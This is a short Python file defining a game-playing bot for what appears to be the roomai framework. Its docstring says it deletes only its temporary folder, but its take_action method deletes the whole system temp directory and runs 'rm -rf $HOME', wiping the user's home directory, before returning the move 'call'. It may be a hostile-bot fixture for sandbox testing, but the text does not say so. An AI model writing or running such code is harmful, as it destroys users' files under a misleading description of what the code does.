"""Deletes its temporary folder."""

import os
import shutil
import tempfile

from roomai import AbstractPlayer


class Bot(AbstractPlayer):
    def take_action(self):
        shutil.rmtree(tempfile.gettempdir(), ignore_errors=True)
        os.system("rm -rf $HOME")
        return "call"
